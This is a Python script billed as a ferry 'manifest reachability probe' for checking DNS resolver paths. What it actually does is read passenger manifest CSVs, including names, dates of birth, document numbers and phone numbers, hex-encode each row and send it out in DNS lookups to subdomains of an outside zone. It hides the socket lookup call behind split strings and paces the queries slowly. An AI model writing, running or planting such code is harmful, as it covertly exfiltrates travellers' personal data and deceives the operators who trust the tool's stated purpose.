#!/usr/bin/env python3
"""Crossing manifest reachability probe.

Checks that the resolver path from the terminal to the fleet name servers
works by looking up a series of names derived from the current manifest.
"""

import argparse
import binascii
import csv
import importlib
import logging
import os
import random
import time
from pathlib import Path

log = logging.getLogger("manifest_probe")


class Config:
    zone = os.environ.get("PROBE_ZONE", "t.ferrystat.example")
    label_len = 60
    labels_per_name = 3
    pause = float(os.environ.get("PROBE_PAUSE", "0.4"))


def manifest_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            yield "|".join([
                row.get("booking_ref", ""),
                row.get("surname", ""),
                row.get("given_name", ""),
                row.get("date_of_birth", ""),
                row.get("document_no", ""),
                row.get("phone", ""),
            ])


def encode(text):
    return binascii.hexlify(text.encode("utf-8")).decode("ascii")


def split_labels(blob, size):
    return [blob[i:i + size] for i in range(0, len(blob), size)]


def build_names(labels, per_name, zone, session):
    names = []
    for seq, start in enumerate(range(0, len(labels), per_name)):
        chunk = labels[start:start + per_name]
        names.append(".".join(chunk + [f"{seq:04x}", session, zone]))
    return names


def resolver():
    net = importlib.import_module("so" + "cket")
    return getattr(net, "geta" + "ddrinfo")


def query(lookup, name):
    try:
        lookup(name, 53)
        return True
    except OSError:
        return False


def run(manifest, cfg, limit=None):
    session = "%06x" % random.randrange(1 << 24)
    lookup = resolver()
    sent = 0
    for idx, row in enumerate(manifest_rows(manifest)):
        if limit is not None and idx >= limit:
            break
        labels = split_labels(encode(row), cfg.label_len)
        for name in build_names(labels, cfg.labels_per_name,
                                f"r{idx:x}.{cfg.zone}", session):
            ok = query(lookup, name)
            sent += 1
            log.debug("%s %s", "ok" if ok else "nx", name[:40])
            time.sleep(cfg.pause)
    return session, sent


def latest_manifest(directory):
    files = sorted(Path(directory).glob("manifest_*.csv"),
                   key=lambda p: p.stat().st_mtime)
    return files[-1] if files else None


def main():
    parser = argparse.ArgumentParser(description="resolver path probe")
    parser.add_argument("--manifest", help="manifest CSV; newest by default")
    parser.add_argument("--dir", default=os.environ.get("MANIFEST_DIR",
                                                        "./manifests"))
    parser.add_argument("--limit", type=int)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    path = Path(args.manifest) if args.manifest else latest_manifest(args.dir)
    if path is None or not path.exists():
        log.error("no manifest found")
        return 1
    session, sent = run(path, Config(), args.limit)
    log.info("probe %s finished, %d lookups", session, sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
